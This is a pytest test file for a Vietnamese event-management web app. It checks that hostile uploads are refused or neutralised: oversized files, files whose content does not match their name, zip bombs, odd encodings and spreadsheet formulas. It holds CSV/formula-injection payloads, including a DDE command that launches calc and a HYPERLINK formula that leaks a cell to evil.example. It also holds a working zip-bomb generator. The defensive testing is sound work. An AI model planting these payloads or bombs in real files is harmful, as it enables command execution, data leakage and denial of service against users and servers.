"""Hostile and malformed files at every upload: the schedule, a run-sheet, an invitee list and a
statistics template. Too big, not what the name says, zip bombs, strange encodings: a clear
message in the user's language (Vietnamese by default) and nothing kept. Formulas in cells are
imported as the text they are and, exported again to Excel, stay text."""

from __future__ import annotations

import codecs
import datetime as dt
import html
import io
import re
import struct
import unicodedata
import zipfile
from functools import cache

import openpyxl
import pytest
from flask import url_for
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from app.checkin.models import CheckInMethod
from app.checkin.services import Actor, check_in_invitee
from app.invitations.models import Invitee
from app.reports.models import ReportRow, ReportTemplate, RowSource
from app.schedule.models import Event, ImportUpload, ProgramItem
from app.units.models import Role, UnitKind

FORMULAS = {
    "cmd": "=CMD|' /C calc'!A0",
    "link": '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "plus": "+SUM(1+1)*cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
}
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06" + b"\x00" * 64
SCHEDULE_HEAD = ["TT", "Giờ", "Ngày", "Đơn vị", "Nội dung", "Địa điểm"]
PROGRAM_HEAD = ["STT", "Thời gian", "Nội dung", "Thực hiện"]
INVITEE_HEAD = ["STT", "Họ và tên", "Chức vụ", "Đơn vị", "Điện thoại"]


@pytest.fixture
def world(db, make_unit, make_user, make_campaign, make_event):
    district = make_unit(name="Phòng GD&ĐT quận Đống Đa", kind=UnitKind.DISTRICT_OFFICE)
    campaign = make_campaign(district, year=2024)
    event = make_event(campaign, district, title="Lễ khai mạc", date=dt.date(2024, 10, 2))
    admin = make_user(district, Role.ADMIN)  # Vietnamese, as every account by default
    return {"district": district, "campaign": campaign, "event": event, "admin": admin}


#: Each upload page: its URL and the form's other fields.
def _endpoints(world) -> dict[str, str]:
    return {
        "schedule": f"/campaigns/{world['campaign'].id}/import",
        "program": f"/events/{world['event'].id}/program/import",
        "invitees": f"/events/{world['event'].id}/invitees/import",
        "template": "/report-templates/import",
    }


ENDPOINTS = ["schedule", "program", "invitees", "template"]


def upload(client, url: str, filename: str, data: bytes, **fields):
    """A multipart POST as a browser sends it (encoded here: the test client would spool a big
    body to a temporary file it never closes)."""
    file = FileStorage(io.BytesIO(data), filename=filename, content_type="application/octet-stream")
    boundary, body = encode_multipart({"csrf_token": client._token(), **fields, "file": file})
    return client.post(
        url, data=body, content_type=f"multipart/form-data; boundary={boundary}", csrf=False
    )


def page_text(response) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", response.get_data(as_text=True))).split())


def kept(db) -> tuple[int, ...]:
    """What an upload may leave: uploads waiting for a preview, events, run-sheet rows,
    invitees, templates."""
    db.session.expire_all()
    return tuple(
        db.session.scalar(select(func.count()).select_from(model))
        for model in (ImportUpload, Event, ProgramItem, Invitee, ReportTemplate)
    )


def refused(client, db, url, filename, data, message: str):
    """The upload is refused with `message` shown on the form, and nothing is kept."""
    before = kept(db)
    response = upload(client, url, filename, data)
    text = page_text(response)
    assert response.status_code == 422, text[:500]
    assert message in text, text[:2000]
    assert kept(db) == before
    return text


# --- files to upload ------------------------------------------------------------------------


def xlsx(*rows) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def docx_table(*rows) -> bytes:
    import docx

    document = docx.Document()
    table = document.add_table(rows=0, cols=len(rows[0]))
    for row in rows:
        cells = table.add_row().cells
        for cell, value in zip(cells, row, strict=True):
            cell.text = str(value)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@cache
def zip_bomb(member: str) -> bytes:
    """A 40 KB zip that unpacks to 4 GB: one 20 MB member of zeros, and 200 entries of the
    central directory all pointing at it (overlapping entries, as real zip bombs do)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(member, b"\0" * (20 << 20))
    data = buffer.getvalue()
    end = data.rindex(b"PK\x05\x06")
    size, offset = struct.unpack("<II", data[end + 12 : end + 20])
    copies = 200
    directory = data[offset : offset + size] * copies
    record = bytearray(data[end : end + 22])
    struct.pack_into("<HHII", record, 8, copies, copies, len(directory), offset)
    return data[:offset] + directory + bytes(record)


def test_the_zip_bomb_is_one(app):
    bomb = zip_bomb("word/document.xml")
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        unpacked = sum(entry.file_size for entry in archive.infolist())
    assert len(bomb) < 100_000 and unpacked > 4_000_000_000


# --- too big --------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ENDPOINTS)
def test_a_file_above_the_servers_limit_is_refused_before_it_is_read(
    app, client, auth, db, world, kind
):
    auth.login(world["admin"])
    before = kept(db)
    data = b"TT;Ngay\n" * (app.config["MAX_CONTENT_LENGTH"] // 8 + 1)
    response = upload(client, _endpoints(world)[kind], "lich.csv", data)
    assert response.status_code == 413
    assert "Tệp quá lớn." in page_text(response)
    assert kept(db) == before


@pytest.mark.parametrize(
    ("kind", "limit"), [("schedule", 5), ("program", 5), ("invitees", 5), ("template", 1)]
)
def test_a_file_above_the_imports_limit_is_refused_with_the_limit(client, auth, db, world, kind,
                                                                  limit):  # fmt: skip
    auth.login(world["admin"])
    filename = "mau.xlsx" if kind == "template" else "lich.xlsx"
    data = b"PK\x03\x04" + b"\0" * (limit * 1024 * 1024)
    refused(client, db, _endpoints(world)[kind], filename, data, f"{filename} lớn hơn {limit} MB.")


# --- not what the name says -----------------------------------------------------------------

_NOT_XLSX = "không phải là tệp Excel (.xlsx): nội dung của tệp là"


@pytest.mark.parametrize("kind", ["schedule", "program", "invitees"])
@pytest.mark.parametrize(
    ("filename", "data", "message"),
    [
        ("lich.xlsx", PNG, f"lich.xlsx {_NOT_XLSX} không phải bảng cũng không phải văn bản."),
        ("lich.xlsx", "TT;Giờ;Ngày\n1;8h;2/10".encode(), f"lich.xlsx {_NOT_XLSX} tệp văn bản"),
        ("lich.docx", PNG, "lich.docx không phải là tệp Word (.docx)"),
        ("lich.csv", xlsx(["TT"]), "lich.csv không phải là tệp văn bản hoặc CSV"),
        ("lich.xlsx", b"%PDF-1.7\n" + b"x" * 100, "lich.xlsx là tệp PDF."),
        ("lich.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "lich.xls"),
        ("lich.png", PNG, "Không nhập được tệp có đuôi .png."),
    ],
    ids=["png-as-xlsx", "text-as-xlsx", "png-as-docx", "xlsx-as-csv", "pdf", "xls", "png"],
)
def test_a_file_that_is_not_what_its_name_says_is_refused(client, auth, db, world, kind,
                                                          filename, data, message):  # fmt: skip
    auth.login(world["admin"])
    refused(client, db, _endpoints(world)[kind], filename, data, message)


@pytest.mark.parametrize(
    ("filename", "data", "message"),
    [
        ("mau.xlsx", PNG, f"mau.xlsx {_NOT_XLSX}"),
        ("mau.xlsx", b"STT;Noi dung\n1;a\n", f"mau.xlsx {_NOT_XLSX} tệp văn bản"),
        ("mau.csv", b"STT;Noi dung\n1;a\n", "mau.csv không phải tệp Excel (.xlsx)."),
    ],
)
def test_a_template_that_is_not_a_workbook_is_refused(client, auth, db, world, filename, data,
                                                      message):  # fmt: skip
    auth.login(world["admin"])
    refused(client, db, _endpoints(world)["template"], filename, data, message)


# --- zip bombs and damaged archives -----------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "filename", "member", "limit"),
    [
        ("schedule", "lich.docx", "word/document.xml", 50),
        ("schedule", "lich.xlsx", "xl/workbook.xml", 50),
        ("program", "chuong-trinh.docx", "word/document.xml", 50),
        ("invitees", "dai-bieu.xlsx", "xl/workbook.xml", 50),
        ("template", "mau.xlsx", "xl/workbook.xml", 10),
    ],
)
def test_a_zip_bomb_is_refused_before_it_is_unpacked(client, auth, db, world, kind, filename,
                                                     member, limit):  # fmt: skip
    auth.login(world["admin"])
    refused(
        client,
        db,
        _endpoints(world)[kind],
        filename,
        zip_bomb(member),
        f"{filename} khi giải nén sẽ lớn hơn {limit} MB, quá lớn đối với một bảng.",
    )


@pytest.mark.parametrize("kind", ENDPOINTS)
def test_a_truncated_workbook_is_said_to_be_damaged(client, auth, db, world, kind):
    auth.login(world["admin"])
    whole = xlsx(INVITEE_HEAD, [1, "Nguyễn Văn An", "", "", ""])
    refused(client, db, _endpoints(world)[kind], "hong.xlsx", whole[: len(whole) // 2],
            "Không đọc được hong.xlsx")  # fmt: skip


# --- encodings ------------------------------------------------------------------------------

_SCHEDULE_CSV = "TT;Giờ;Ngày;Đơn vị;Nội dung\n1;8h30;02/10/2024;Phường Láng Hạ;Ngày hội đọc sách\n"
_TONES = "\u0300\u0301\u0303\u0309\u0323"


def cp1258(text: str) -> bytes:
    """Text as Vietnamese Windows writes it: letters with their own code (ơ, ư, â …) followed
    by a separate tone mark."""
    out = b""
    for char in text:
        parts = unicodedata.normalize("NFD", char)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in _TONES))
        out += (base + "".join(c for c in parts if c in _TONES)).encode("cp1258")
    return out


@pytest.mark.parametrize(
    ("data", "readable"),
    [
        (codecs.BOM_UTF8 + _SCHEDULE_CSV.encode(), True),
        (_SCHEDULE_CSV.replace(";", "\t").encode("utf-16"), True),  # Excel's "Unicode text"
        (codecs.BOM_UTF16_BE + _SCHEDULE_CSV.encode("utf-16-be"), True),
        (cp1258(_SCHEDULE_CSV), True),  # Vietnamese Windows
        (_SCHEDULE_CSV.encode("utf-16-le"), False),  # no BOM: bytes with NULs
        (_SCHEDULE_CSV.encode("utf-32"), True),
        (_SCHEDULE_CSV.encode("gb18030"), False),
        (_SCHEDULE_CSV.encode("cp500", "replace"), False),  # EBCDIC
        (b"\xff\xfe" + b"\x00\xd8" * 50, False),  # UTF-16 lone surrogates
    ],
    ids=[
        "utf8-bom",
        "utf16",
        "utf16-be",
        "cp1258",
        "utf16-no-bom",
        "utf32",
        "gb18030",
        "ebcdic",
        "surrogates",
    ],  # fmt: skip
)
def test_a_csv_in_any_encoding_is_read_or_refused_with_a_message(client, auth, db, world, data,
                                                                 readable):  # fmt: skip
    auth.login(world["admin"])
    url = _endpoints(world)["schedule"]
    if not readable:
        before = kept(db)
        response = upload(client, url, "lich.csv", data)
        assert response.status_code == 422
        text = page_text(response)
        assert any(
            message in text
            for message in (
                "Không đọc được lich.csv dưới dạng văn bản.",
                "lich.csv không phải là tệp văn bản hoặc CSV",
                # Bytes that read as some text, only not as a table.
                "Không tìm thấy dòng tiêu đề. Bảng cần có một dòng ghi tên các cột TT, Giờ",
            )
        ), text[:2000]
        assert kept(db) == before
        return
    response = upload(client, url, "lich.csv", data)
    assert response.status_code == 303, page_text(response)[:500]
    preview = page_text(client.get(response.headers["Location"]))
    assert "Ngày hội đọc sách" in preview and "Phường Láng Hạ" in preview


# --- formulas -------------------------------------------------------------------------------


def _confirm(client, response, shown=None):
    """Open the preview (where the formulas `shown` read as text) and import the rows."""
    assert response.status_code == 303, page_text(response)[:800]
    preview = client.get(response.headers["Location"])
    assert preview.status_code == 200
    for formula in shown or FORMULAS.values():
        assert formula in page_text(preview)  # shown as the text it is
    done = client.post(response.headers["Location"])
    assert done.status_code == 303, page_text(done)[:800]


def _no_formulas(content: bytes, *texts: str) -> None:
    """No cell of the workbook is a formula; each text is in some cell, as text."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
    for text in texts:
        assert any(text in value for value in values), text


def test_formulas_in_a_schedule_are_imported_and_exported_as_text(client, auth, db, world):
    auth.login(world["admin"])
    data = xlsx(
        SCHEDULE_HEAD,
        [1, "8h00", "02/10/2024", FORMULAS["cmd"], FORMULAS["link"], FORMULAS["plus"]],
        [2, "9h00", "03/10/2024", "Phường Láng Hạ", FORMULAS["at"], ""],
    )
    response = upload(client, _endpoints(world)["schedule"], "lich.xlsx", data)
    _confirm(client, response, shown=(FORMULAS["cmd"], FORMULAS["link"], FORMULAS["at"]))
    events = db.session.scalars(
        select(Event).where(Event.id != world["event"].id).order_by(Event.date)
    ).all()
    assert [(e.title, e.co_host, e.venue_name) for e in events] == [
        (FORMULAS["link"], FORMULAS["cmd"], FORMULAS["plus"]),
        (FORMULAS["at"], "Phường Láng Hạ", ""),
    ]

    with client.application.test_request_context():
        url = url_for("checkin.attendance_xlsx", event_id=events[0].id)
    response = client.get(url)
    assert response.status_code == 200
    _no_formulas(response.data, FORMULAS["link"])


def test_formulas_in_a_run_sheet_are_imported_as_text(client, auth, db, world):
    auth.login(world["admin"])
    data = docx_table(
        PROGRAM_HEAD,
        [1, "7h00-7h30", FORMULAS["cmd"], FORMULAS["link"]],
        [2, "7h30-7h40", FORMULAS["plus"], FORMULAS["at"]],
    )
    url = _endpoints(world)["program"]
    _confirm(client, upload(client, url, "chuong-trinh.docx", data))
    db.session.expire_all()
    items = sorted(world["event"].program, key=lambda item: item.position)
    assert [(i.content, i.performer) for i in items] == [
        (FORMULAS["cmd"], FORMULAS["link"]),
        (FORMULAS["plus"], FORMULAS["at"]),
    ]


def test_formulas_in_an_invitee_list_are_imported_and_exported_as_text(client, auth, db, world):
    auth.login(world["admin"])
    data = xlsx(
        INVITEE_HEAD,
        [1, FORMULAS["cmd"], FORMULAS["plus"], FORMULAS["link"], "0912 345 678"],
        [2, "Nguyễn Văn An", FORMULAS["at"], "UBND phường Láng Hạ", ""],
    )
    _confirm(client, upload(client, _endpoints(world)["invitees"], "dai-bieu.xlsx", data))
    invitees = db.session.scalars(select(Invitee).order_by(Invitee.id)).all()
    assert [(i.full_name, i.title, i.organisation) for i in invitees] == [
        (FORMULAS["cmd"], FORMULAS["plus"], FORMULAS["link"]),
        ("Nguyễn Văn An", FORMULAS["at"], "UBND phường Láng Hạ"),
    ]
    actor = Actor(user=world["admin"])
    for invitee in invitees:
        check_in_invitee(world["event"], invitee, actor, method=CheckInMethod.SCAN, override=True)
    db.session.commit()

    with client.application.test_request_context():
        url = url_for("checkin.attendance_xlsx", event_id=world["event"].id)
    response = client.get(url)
    assert response.status_code == 200
    _no_formulas(response.data, *FORMULAS.values())


def test_a_template_with_a_formula_is_refused_and_labels_export_as_text(client, auth, db,
                                                                        world):  # fmt: skip
    """A template's cells are data: a formula in the file is an error naming its cell; a
    label that starts like one (typed in the app) is downloaded as text."""
    auth.login(world["admin"])
    with client.application.test_request_context():
        download = url_for("reports.template_download",
                           template_id=world["campaign"].report_template.id)  # fmt: skip
    workbook = openpyxl.load_workbook(io.BytesIO(client.get(download).data))
    sheet = workbook.worksheets[0]
    first = min(world["campaign"].report_template.rows, key=lambda row: row.position).label
    label = next(c for row in sheet.iter_rows() for c in row if c.value == first)
    sheet[label.coordinate] = FORMULAS["cmd"]  # openpyxl writes it as a formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    before = kept(db)
    response = upload(client, _endpoints(world)["template"], "mau.xlsx", buffer.getvalue())
    assert response.status_code == 303  # read, then every problem shown before anything
    preview = page_text(client.get(response.headers["Location"]))
    assert f"Ô {label.coordinate} chứa công thức" in preview
    assert kept(db)[1:] == before[1:]  # no template made

    template = ReportTemplate(name=FORMULAS["link"], is_default=False)
    template.rows = [
        ReportRow(position=1, number="I", label=FORMULAS["cmd"], source=RowSource.TYPED),
    ]
    db.session.add(template)
    db.session.commit()
    with client.application.test_request_context():
        download = url_for("reports.template_download", template_id=template.id)
    _no_formulas(client.get(download).data, FORMULAS["cmd"], FORMULAS["link"])


def test_messages_are_in_the_users_language(client, auth, db, world, make_user):
    english = make_user(world["district"], Role.ADMIN, locale="en")
    auth.login(english)
    refused(client, db, _endpoints(world)["schedule"], "lich.xlsx", PNG,
            "lich.xlsx is not an Excel workbook (.xlsx): its content is neither a table nor "
            "text.")  # fmt: skip


@pytest.mark.parametrize("kind", ["schedule", "invitees"])
def test_a_very_long_file_name_is_no_failure(client, auth, db, world, kind):
    auth.login(world["admin"])
    name = "Lịch hoạt động Tuần lễ học tập suốt đời " * 10 + ".csv"
    data = (_SCHEDULE_CSV if kind == "schedule" else "Họ và tên;Chức vụ\nNguyễn Văn An;\n").encode()
    response = upload(client, _endpoints(world)[kind], name, data)
    assert response.status_code == 303, page_text(response)[:500]
    assert client.get(response.headers["Location"]).status_code == 200


@pytest.mark.parametrize("kind", ["schedule", "program", "invitees"])
def test_pasted_rows_with_control_characters_are_no_failure(client, auth, db, world, kind):
    auth.login(world["admin"])
    pasted = {
        "schedule": "TT\tGiờ\tNgày\tĐơn vị\tNội dung\n1\t8h30\t02/10/2024\tPhường\x00 Láng Hạ\tĐọc\x0b sách\x1b\n",
        "program": "STT\tThời gian\tNội dung\tThực hiện\n1\t7h00-7h30\tĐón\x00 tiếp\tBan\x07 tổ chức\n",
        "invitees": "Họ và tên\tChức vụ\nNguyễn\x00 Văn An\tChủ\x08 tịch\n",
    }[kind]
    response = client.post(_endpoints(world)[kind], data={"pasted": pasted})
    assert response.status_code == 303, page_text(response)[:500]
    preview = client.get(response.headers["Location"])
    assert preview.status_code == 200
    assert client.post(response.headers["Location"]).status_code == 303
    db.session.expire_all()
    texts = [e.title + e.co_host for e in db.session.scalars(select(Event))]
    texts += [i.content + i.performer for i in db.session.scalars(select(ProgramItem))]
    texts += [i.full_name + i.title for i in db.session.scalars(select(Invitee))]
    assert texts and not any(re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", t) for t in texts)
